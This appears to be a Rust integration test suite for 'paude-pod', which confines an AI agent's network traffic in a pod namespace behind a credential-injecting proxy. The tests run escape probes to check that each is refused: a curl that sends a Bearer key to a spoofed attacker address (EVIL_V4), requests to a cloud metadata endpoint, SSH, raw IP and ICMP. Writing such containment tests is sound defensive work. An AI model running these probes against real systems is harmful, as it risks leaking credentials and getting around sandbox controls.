//! Pod mode end to end: `scripts/paude-pod` contains every UID but the proxy's
//! inside ONE network namespace, the way an init container does in a
//! Kubernetes or podman pod. The lab's `gw` namespace plays the pod: the real
//! `paude-proxy` runs there as [`PROXY_UID`], the agent as [`AGENT_UID`]
//! (`setpriv`), and the recording upstreams, fake resolver and tripwires sit in
//! `inet` (tests/netns_support/gateway.rs). The agent has no proxy settings.
//!
//! The agent's /etc/resolv.conf names [`INET_V4`] (where a tripwire listens on
//! 53), as a pod's names its cluster DNS: a non-loopback address, so DNS and
//! TCP leave from the same client address (the pod IP) and the proxy's answer
//! record vouches for the agent's connections. Root only: without root or
//! CAP_NET_ADMIN every test prints a loud skip notice, unless
//! PAUDE_REQUIRE_NETNS=1 makes that a failure.

mod netns_support;

use std::fs;
use std::process::{Command, Output};

use netns_support::gateway::*;
use netns_support::*;
use serde_json::{Value, json};

/// The Containerfile's and deploy/'s proxy UID; its traffic is untouched.
const PROXY_UID: u32 = 10001;
/// The agent's UID in deploy/; everything it sends is contained.
const AGENT_UID: u32 = 1000;
/// A second agent process under another UID in the same pod.
const OTHER_AGENT_UID: u32 = 1001;
/// The proxy's admin listener, on loopback as deploy/ configures it.
const ADMIN_PORT: u16 = 9090;
/// A pod-local service the agent may reach (`--allow-local-port`).
const ALLOWED_LOCAL_PORT: u16 = 8080;
/// A pod-local service the agent may not reach.
const OTHER_LOCAL_PORT: u16 = 9999;
/// curl gives up after this many seconds instead of hanging.
const CURL_MAX_TIME_SECONDS: u32 = 15;

fn pod_script(lab: &Lab, args: &[&str]) -> Command {
    let mut c = Command::new("nsenter");
    c.arg(format!("--net=/run/netns/{}", lab.gw))
        .arg(repo_root().join("scripts/paude-pod"))
        .args(args);
    c
}

/// Proxy in gw as PROXY_UID, the pod rules applied, the CA copied where the
/// agent can read it, and the agent's resolv.conf written.
fn pod_with_proxy(test: &str, tag: &str) -> Option<(Lab, Gateway)> {
    if !netns_ready(test) || !tool_ready(test, "curl") || !tool_ready(test, "setpriv") {
        return None;
    }
    let mut lab = Lab::new(tag);
    let admin = format!("127.0.0.1:{ADMIN_PORT}");
    // Loopback listeners, as deploy/ configures them: a UDP socket bound to
    // the wildcard would answer a redirected query from the pod IP, which
    // conntrack cannot match to the redirect (see nft/pod/10-pod.nft).
    let gw = Gateway::start_as(
        &mut lab,
        ProxyUser::Uid(PROXY_UID),
        &[
            ("PAUDE_PROXY_ADMIN_LISTEN", admin.as_str()),
            ("PAUDE_PROXY_DNS_LISTEN", "127.0.0.1:3153"),
            ("PAUDE_PROXY_TRANSPARENT_LISTEN", "127.0.0.1:3129"),
        ],
    );
    let port = ALLOWED_LOCAL_PORT.to_string();
    must(&mut pod_script(
        &lab,
        &[
            "apply",
            "--proxy-uid",
            &PROXY_UID.to_string(),
            "--allow-local-port",
            &port,
        ],
    ));
    fs::write(
        lab.dir.path().join("agent-ca.crt"),
        fs::read(&lab.ca).expect("CA"),
    )
    .expect("CA");
    fs::write(
        lab.dir.path().join("agent-resolv.conf"),
        format!("nameserver {INET_V4}\noptions timeout:2 attempts:1\n"),
    )
    .expect("resolv.conf");
    Some((lab, gw))
}

/// Runs SCRIPT (sh) in the pod as UID with an empty environment plus the dummy
/// credential and CA trust, and the agent's resolv.conf. EXTRA is put before
/// `sh` (e.g. capabilities for setpriv).
fn as_uid(lab: &Lab, uid: u32, extra: &[&str], script: &str) -> Output {
    let dir = lab.dir.path().to_string_lossy().into_owned();
    let wrapper = format!(
        "mount --bind {dir}/agent-resolv.conf /etc/resolv.conf && exec setpriv \
         --reuid={uid} --regid={uid} --clear-groups {} env -i PATH=/usr/bin:/bin \
         HOME=/tmp OPENAI_API_KEY={DUMMY} ANTHROPIC_API_KEY={DUMMY} \
         CURL_CA_BUNDLE={dir}/agent-ca.crt sh -c \"$0\"",
        extra.join(" ")
    );
    run(&mut cmd(
        "ip",
        &[
            "netns", "exec", &lab.gw, "unshare", "-m", "sh", "-c", &wrapper, script,
        ],
    ))
}

#[derive(Debug)]
struct CurlOut {
    code: String,
    body: String,
    stderr: String,
}

impl CurlOut {
    fn all(&self) -> String {
        format!("{}\n{}", self.body, self.stderr)
    }
}

fn agent_curl(lab: &Lab, uid: u32, args: &str) -> CurlOut {
    let script =
        format!("curl -sS --max-time {CURL_MAX_TIME_SECONDS} -w '\\n%{{http_code}}' {args}");
    let (stdout, stderr) = text(&as_uid(lab, uid, &[], &script));
    let (body, code) = stdout.rsplit_once('\n').unwrap_or(("", stdout.as_str()));
    CurlOut {
        code: code.trim().to_string(),
        body: body.to_string(),
        stderr,
    }
}

fn probes_as(lab: &Lab, uid: u32, extra: &[&str], probes: &Value) -> Vec<Value> {
    let lab_py = repo_root().join("tests/netns_support/lab.py");
    let script = format!("exec {} {} probes '{}'", python(), lab_py.display(), probes);
    let out = as_uid(lab, uid, extra, &script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "probes failed: {stderr}");
    let results: Vec<Value> = serde_json::from_str(stdout.trim()).expect("probe output is JSON");
    assert_eq!(results.len(), probes.as_array().map(Vec::len).unwrap_or(0));
    results
}

fn result(r: &Value) -> &str {
    r["result"].as_str().unwrap_or("")
}

/// OUTPUT-hook rejects fail the agent's own send or connect at once: with the
/// ICMP/RST the rule sends (ECONNREFUSED) or with EPERM from the local drop.
fn assert_rejected(i: usize, r: &Value) {
    const EPERM: u64 = 1;
    let eperm = result(r) == "error" && r["errno"].as_u64() == Some(EPERM);
    assert!(
        result(r) == "refused" || eperm,
        "probe {i} must be rejected: {r:#}"
    );
}

fn assert_refused_by_proxy(out: &CurlOut, reason: &str, gw: &Gateway) {
    assert!(
        out.code == "403" && out.body.contains(reason) && !out.body.contains(UPSTREAM_BANNER),
        "expected the proxy's 403 mentioning {reason:?}: {out:#?}\nproxy log:\n{}",
        tail(&gw.proxy_log())
    );
}

#[test]
fn pod_agent_gets_credentials_injected_and_spoofed_sni_is_refused() {
    let Some((lab, gw)) = pod_with_proxy(
        "pod_agent_gets_credentials_injected_and_spoofed_sni_is_refused",
        "pinj",
    ) else {
        return;
    };
    // Through the system resolver (the sandbox DNS, by redirect) and the
    // transparent listener; the agent knows only the dummy.
    let ok = agent_curl(
        &lab,
        AGENT_UID,
        "-H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
    );
    assert_eq!(ok.code, "200", "{ok:#?}\n{}", tail(&gw.proxy_log()));
    let reqs = gw.https_at(OPENAI_V4);
    assert_eq!(reqs.len(), 1, "{reqs:#?}");
    assert_eq!(
        header(&reqs[0], "authorization"),
        vec![format!("Bearer {OPENAI_SECRET}")],
        "the proxy (its own UID, untouched) reached the upstream with the real key"
    );
    // A name only the upstream resolver knows: the proxy's DNS upstream query
    // went out, and only the answer record (keyed by the pod IP, which DNS and
    // TCP share) can vouch for the connection.
    let cdn = agent_curl(&lab, AGENT_UID, &format!("https://{CDN_NAME}/asset"));
    assert_eq!(cdn.code, "200", "{cdn:#?}\n{}", tail(&gw.proxy_log()));
    assert_eq!(gw.https_at(CDN_V4).len(), 1);

    // Every agent process of the pod shares the client address, so the record
    // pools their evidence; it still only holds what the sandbox DNS really
    // answered, so no process can make it vouch for another address.
    for uid in [AGENT_UID, OTHER_AGENT_UID] {
        let spoofed = agent_curl(
            &lab,
            uid,
            &format!(
                "--resolve {OPENAI_NAME}:443:{EVIL_V4} -H \"Authorization: Bearer $OPENAI_API_KEY\" \
                 https://{OPENAI_NAME}/v1/models"
            ),
        );
        assert_refused_by_proxy(&spoofed, "does not resolve to", &gw);
        let cdn_spoofed = agent_curl(
            &lab,
            uid,
            &format!("--resolve {CDN_NAME}:443:{EVIL_V4} https://{CDN_NAME}/asset"),
        );
        assert_refused_by_proxy(&cdn_spoofed, "does not resolve to", &gw);
    }
    gw.expect_blocked(GW_INET_V4, &[&format!("CONNECT {OPENAI_NAME}:443 ")]);
    assert_eq!(gw.https_at(EVIL_V4), Vec::<Value>::new());
    assert_eq!(
        gw.https_at(OPENAI_V4).len(),
        1,
        "nothing more reached OpenAI"
    );
    gw.tripwires
        .assert_silent("inet tripwires (resolver on 53 included)");
    gw.assert_no_leaks(&[&ok.all(), &cdn.all()]);
}

#[test]
fn pod_agent_reaches_nothing_but_the_proxy() {
    let Some((mut lab, gw)) = pod_with_proxy("pod_agent_reaches_nothing_but_the_proxy", "pesc")
    else {
        return;
    };
    let gw_ns = lab.gw.clone();
    let allowed = ALLOWED_LOCAL_PORT.to_string();
    let other = OTHER_LOCAL_PORT.to_string();
    let local = lab.listen(
        &gw_ns,
        "pod-local",
        &[
            "--banner",
            "POD-LOCAL",
            "--tcp",
            &allowed,
            "--tcp",
            &other,
            "--udp",
            &other,
        ],
    );
    let metadata = agent_curl(
        &lab,
        AGENT_UID,
        &format!("http://{METADATA_V4}/computeMetadata/v1/"),
    );
    assert_refused_by_proxy(&metadata, "not in ALLOWED_DOMAINS", &gw);

    let results = probes_as(
        &lab,
        AGENT_UID,
        &[],
        &json!([
            // 0-1: TCP anywhere goes to the transparent listener.
            {"kind": "tcp", "host": INET_FAR_V4, "port": 22, "send": "SSH-2.0-OpenSSH_9.6\r\n"},
            {"kind": "tcp", "host": METADATA_V4, "port": 22, "send": "PING\n"},
            // 2-5: UDP incl. QUIC, metadata, NTP.
            {"kind": "udp", "host": OPENAI_V4, "port": 443, "send": "QUIC-INITIAL"},
            {"kind": "udp", "host": INET_FAR_V4, "port": 123},
            {"kind": "udp", "host": METADATA_V4, "port": 80},
            {"kind": "udp", "host": "127.0.0.1", "port": OTHER_LOCAL_PORT},
            // 6-9: the proxy's explicit and admin ports, another local
            // service, on loopback and on the pod IP.
            {"kind": "tcp", "host": "127.0.0.1", "port": EXPLICIT_PORT},
            {"kind": "tcp", "host": GW_INET_V4, "port": EXPLICIT_PORT},
            {"kind": "tcp", "host": "127.0.0.1", "port": ADMIN_PORT},
            {"kind": "tcp", "host": "127.0.0.1", "port": OTHER_LOCAL_PORT},
            // 10-12: IPv6, loopback included.
            {"kind": "tcp", "host": INET_V6, "port": 443},
            {"kind": "udp", "host": INET_V6, "port": 443},
            {"kind": "tcp", "host": "::1", "port": ADMIN_PORT},
            // 13-14: direct DNS to an outside resolver: the sandbox DNS answers.
            {"kind": "dns", "host": INET_V4, "name": OPENAI_NAME},
            {"kind": "dns", "host": INET_FAR_V4, "name": OPENAI_NAME, "tcp": true},
            // 15: the listed local port is open.
            {"kind": "tcp", "host": "127.0.0.1", "port": ALLOWED_LOCAL_PORT, "send": "HI\n"},
        ]),
    );
    for (i, r) in results.iter().enumerate().take(2) {
        let reply = r["reply"].as_str().unwrap_or("");
        assert!(
            reply.starts_with("HTTP/1.1 400 ") && !reply.contains(TRIPWIRE_BANNER),
            "probe {i} answered by the proxy: {r:#}"
        );
    }
    for (i, r) in results.iter().enumerate().take(10).skip(2) {
        assert_rejected(i, r);
    }
    for (i, r) in results.iter().enumerate().take(13).skip(10) {
        assert!(
            !matches!(result(r), "connected" | "reply"),
            "IPv6 probe {i} got through: {r:#}"
        );
    }
    for r in &results[13..15] {
        assert_eq!(result(r), "reply", "{r:#}");
        assert_eq!(r["answers"][0]["addr"], OPENAI_V4, "{r:#}");
    }
    assert_eq!(result(&results[15]), "connected", "{:#}", results[15]);

    // ICMP and raw IP even with CAP_NET_RAW (container runtimes often grant it).
    let raw = probes_as(
        &lab,
        AGENT_UID,
        &["--inh-caps=+net_raw", "--ambient-caps=+net_raw"],
        &json!([
            {"kind": "icmp", "host": INET_V4},
            {"kind": "icmp", "host": METADATA_V4},
            {"kind": "raw", "host": INET_V4, "proto": 253},
        ]),
    );
    for r in &raw[..2] {
        assert_ne!(result(r), "echo-reply", "{r:#}");
    }

    let local_events = local.events();
    assert!(
        local_events.iter().all(|e| e["port"] == ALLOWED_LOCAL_PORT),
        "only the listed local port heard the agent: {local_events:#?}"
    );
    assert!(
        !local_events.is_empty(),
        "the listed local port was reached"
    );
    gw.tripwires.assert_silent("inet tripwires");
    gw.https.assert_silent("HTTPS upstream");
    gw.http.assert_silent("HTTP upstream");
    gw.assert_no_leaks(&[&metadata.all()]);
}

#[test]
fn pod_apply_replaces_remove_is_idempotent_and_the_proxy_uid_is_untouched() {
    let test = "pod_apply_replaces_remove_is_idempotent_and_the_proxy_uid_is_untouched";
    if !netns_ready(test) || !tool_ready(test, "setpriv") {
        return;
    }
    let mut lab = Lab::new("papl");
    let tripwires = lab.inet_tripwires();
    fs::write(
        lab.dir.path().join("agent-resolv.conf"),
        format!("nameserver {INET_V4}\n"),
    )
    .expect("resolv.conf");
    fs::write(lab.dir.path().join("agent-ca.crt"), test_ca_pem()).expect("CA");
    let uid = PROXY_UID.to_string();
    must(&mut pod_script(&lab, &["apply", "--proxy-uid", &uid]));
    must(&mut pod_script(
        &lab,
        &[
            "apply",
            "--proxy-uid",
            &uid,
            "--transparent-port",
            "4129",
            "--dns-port",
            "4153",
        ],
    ));
    let ruleset = must(&mut cmd(
        "ip",
        &["netns", "exec", &lab.gw, "nft", "list", "ruleset"],
    ));
    assert_eq!(
        ruleset.matches("table inet paude-pod").count(),
        1,
        "{ruleset}"
    );
    assert!(
        ruleset.contains("redirect to :4129")
            && ruleset.contains("redirect to :4153")
            && !ruleset.contains(":3129"),
        "the second apply replaced the first: {ruleset}"
    );

    // The proxy's UID goes out untouched (a tripwire answers it); the agent's
    // same probe is redirected (nothing listens on 4129 here: refused).
    let probe = json!([{"kind": "tcp", "host": INET_FAR_V4, "port": 22, "send": "PING\n"}]);
    let proxy = probes_as(&lab, PROXY_UID, &[], &probe);
    assert!(
        proxy[0]["reply"]
            .as_str()
            .unwrap_or("")
            .contains(TRIPWIRE_BANNER),
        "{proxy:#?}"
    );
    let agent = probes_as(&lab, AGENT_UID, &[], &probe);
    assert_rejected(0, &agent[0]);
    assert_eq!(tripwires.events().len(), 1, "{:#?}", tripwires.events());

    let (_, removed) = text(&run(&mut pod_script(&lab, &["remove"])));
    assert!(removed.contains("removed"), "{removed}");
    let again = run(&mut pod_script(&lab, &["remove"]));
    assert!(again.status.success() && text(&again).1.contains("nothing to remove"));
    let tables = lab.nft_tables();
    assert!(!tables.contains("paude-pod"), "{tables}");
    let agent = probes_as(&lab, AGENT_UID, &[], &probe);
    assert!(
        agent[0]["reply"]
            .as_str()
            .unwrap_or("")
            .contains(TRIPWIRE_BANNER),
        "control: without the table the agent gets out: {agent:#?}"
    );

    let script = repo_root().join("scripts/paude-pod");
    let script = script.to_string_lossy();
    for sub in [&[][..], &["apply"][..], &["remove"][..]] {
        let mut args = vec!["--reuid=65534", "--regid=65534", "--clear-groups", &script];
        args.extend_from_slice(sub);
        args.push("--help");
        let (stdout, stderr) = text(&run(&mut cmd("setpriv", &args)));
        assert!(
            stdout.starts_with("Usage: paude-pod"),
            "{sub:?}: {stdout}{stderr}"
        );
    }
    let usage_errors: [&[&str]; 6] = [
        &["apply"],
        &["apply", "--proxy-uid", "0"],
        &["apply", "--proxy-uid", "paude"],
        &["apply", "--proxy-uid", "1", "--dns-port", "70000"],
        &["apply", "--proxy-uid", "1", "--allow-local-port", "3129"],
        &["frobnicate"],
    ];
    for args in usage_errors {
        let out = run(&mut pod_script(&lab, args));
        assert_eq!(out.status.code(), Some(64), "{args:?}: {}", text(&out).1);
    }
    assert!(
        !lab.nft_tables().contains("paude-pod"),
        "usage errors load nothing"
    );
}
